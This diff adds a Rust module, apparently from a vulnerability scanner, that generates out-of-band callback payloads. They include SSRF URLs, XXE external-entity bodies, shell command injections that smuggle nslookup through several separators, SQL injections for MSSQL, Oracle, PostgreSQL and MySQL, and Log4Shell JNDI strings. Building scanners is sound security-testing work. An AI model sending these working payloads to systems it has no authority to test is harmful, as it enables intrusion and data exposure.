@@ -0,0 +1,41 @@
+//! Payloads carrying a callback. `url` is `http://<id>.<domain>/`, `host` is `<id>.<domain>`.
+
+/// Parameter values for SSRF: the URL as-is and without scheme (for parameters that prepend one)
+pub fn ssrf(url: &str) -> Vec<String> {
+    vec![url.to_string(), url.trim_start_matches("http:").to_string()]
+}
+
+/// XML bodies fetching an external entity: a parameter entity (works without the entity being
+/// reflected) and a general entity in the document
+pub fn xxe(url: &str) -> Vec<String> {
+    vec![
+        format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"{}x.dtd\"> %x;]><r>1</r>", url),
+        format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"{}\">]><r>&x;</r>", url),
+    ]
+}
+
+/// Shell command injection resolving the host, in the usual separators
+pub fn command(host: &str) -> Vec<String> {
+    vec![
+        format!(";nslookup {};", host),
+        format!("|nslookup {}", host),
+        format!("$(nslookup {})", host),
+        format!("`nslookup {}`", host),
+        format!("&nslookup {}&", host),
+    ]
+}
+
+/// SQL injection that makes the database resolve the host (MSSQL, Oracle, PostgreSQL, MySQL on Windows)
+pub fn sql(host: &str) -> Vec<String> {
+    vec![
+        format!("';exec master..xp_dirtree '//{}/a'--", host),
+        format!("'||(select utl_inaddr.get_host_address('{}') from dual)||'", host),
+        format!("';copy (select '') to program 'nslookup {}'--", host),
+        format!("' and load_file('\\\\\\\\{}\\\\a')-- -", host),
+    ]
+}
+
+/// JNDI lookups (Log4Shell) - logged values are enough
+pub fn jndi(host: &str) -> Vec<String> {
+    vec![format!("${{jndi:ldap://{}/a}}", host), format!("${{jndi:dns://{}/a}}", host)]
+}